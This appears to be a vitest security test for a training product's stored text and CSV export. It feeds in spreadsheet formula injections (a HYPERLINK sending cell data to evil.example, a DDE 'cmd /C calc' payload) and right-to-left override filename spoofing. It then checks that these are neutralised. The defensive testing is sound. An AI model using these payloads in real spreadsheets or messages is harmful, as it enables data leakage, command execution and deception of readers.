/**
 * Hostile text typed into the product and read back: a reply, a comment and an override
 * reason that would run as spreadsheet formulas, and bidirectional and control characters
 * that would reorder or corrupt what a coach reads. Played over the real socket and HTTP
 * API, stored in the real file store, then exported: the CSV opens as text in a spreadsheet,
 * and nothing stored or exported carries U+202E or a control character.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CRITERIA } from '../../server/scoring/types.ts';
import { call as http } from './httpTestServer.ts';
import { call } from '../support/socketClient.ts';
import { startTestServer, type TestServer, type TestUser } from '../support/testServer.ts';
import { connect, say, startSession } from '../support/trainee.ts';

// Each reply is a formula a spreadsheet would run if the cell were written as typed.
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"refund")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1'];
const REVERSED = 'Your refund file is invoice\u202Efdp.exe';
const CONTROLS = 'line one\u0000\u001B[2J\u0007 ok';
const COMMENT = '=cmd|" /C calc"!A0';
const REASON = '-1 for tone \u202Ereversed\u202C and \u2066isolated\u2069';
const UNSAFE = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/;

let server: TestServer;
let coach: TestUser;
let sessionId: string;

beforeAll(async () => {
  server = await startTestServer();
  const trainee = await server.user('trainee');
  coach = await server.user('coach');
  const socket = await connect(server.url, trainee.token);
  ({ sessionId } = await startSession(socket, 'double-charge', 'en'));
  for (const text of [...FORMULAS, REVERSED, CONTROLS]) await say(socket, sessionId, text);
  const end = await call(socket, 'session:end', { sessionId });
  if (!end.ok) throw new Error(JSON.stringify(end));
  socket.disconnect();
  for (const [path, body] of [
    ['comments', { turnIndex: 1, text: COMMENT }],
    ['overrides', { criterion: 'empathy', score: 10, reason: REASON }],
  ] as const) {
    const res = await http(server.url, 'POST', `/api/sessions/${sessionId}/${path}`, { token: coach.token, body });
    if (res.status !== 201) throw new Error(`${path}: ${res.status} ${JSON.stringify(res.body)}`);
  }
});
afterAll(async () => {
  await server.close();
  await server.remove();
});

async function csvRows(): Promise<string[][]> {
  const res = await fetch(`${server.url}/api/sessions/${sessionId}/export.csv`, { headers: { authorization: `Bearer ${coach.token}` } });
  expect(res.status).toBe(200);
  return parse(Buffer.from(await res.arrayBuffer()), { bom: true, relax_column_count: true }) as string[][];
}

describe('stored text', () => {
  it('keeps a reply without its bidirectional and control characters, the words as typed', async () => {
    const { turns } = (await server.ctx.store.getSession(sessionId))!;
    const trainee = turns.filter((t) => t.role === 'trainee').map((t) => t.text);
    expect(trainee).toContain('Your refund file is invoicefdp.exe');
    expect(trainee).toContain('line one[2J ok');
    for (const turn of turns) expect(turn.text).not.toMatch(UNSAFE);
  });

  it('keeps a coach’s reason without them', async () => {
    const reviews = await server.ctx.store.listReviews(sessionId);
    const override = reviews.find((r) => r.kind === 'override');
    expect(override).toMatchObject({ reason: '-1 for tone reversed and isolated' });
  });

  it('refuses a reply that is nothing but invisible characters, as an empty one', async () => {
    const trainee = await server.user('trainee');
    const socket = await connect(server.url, trainee.token);
    const started = await startSession(socket, 'double-charge', 'en');
    const ack = await call(socket, 'trainee:say', { sessionId: started.sessionId, text: '\u202E\u2066\u0000 ' });
    socket.disconnect();
    expect(ack).toEqual({ ok: false, error: { code: 'bad_request', message: expect.stringMatching(/^text: must not be empty/) } });
  });
});

describe('the CSV export', () => {
  it('writes every formula-like reply, comment and reason as text, behind a single quote', async () => {
    const rows = await csvRows();
    const texts = rows.slice(1).filter((r) => r[1] === 'trainee').map((r) => r[2]);
    // Trimmed as stored (the tab goes), then quoted.
    for (const formula of FORMULAS) expect(texts).toContain(`'${formula.trim()}`);
    const comments = rows.find((r) => r[0] === '1')![3 + CRITERIA.length + 1];
    // The comment cell begins with its author's name, so it could not start a formula.
    expect(comments).toBe(`${coach.username}: ${COMMENT}`);
    const empathy = rows.find((r) => r[0] === 'empathy')!;
    expect(empathy.slice(1, 4)).toEqual([expect.stringMatching(/^\d+$/), '10', "'-1 for tone reversed and isolated"]);
  });

  it('leaves no cell a spreadsheet would run, and no bidirectional or control character', async () => {
    for (const row of await csvRows()) {
      for (const cell of row) {
        expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        expect(cell.replace(/\n/g, '')).not.toMatch(UNSAFE);
      }
    }
  });

  it('keeps numbers as numbers: turn indexes and scores are not quoted', async () => {
    const rows = await csvRows();
    expect(rows[1]![0]).toBe('0');
    const overall = rows.find((r) => r[0] === 'overall')!;
    expect(overall[1]).toMatch(/^\d+(\.\d+)?$/);
  });
});
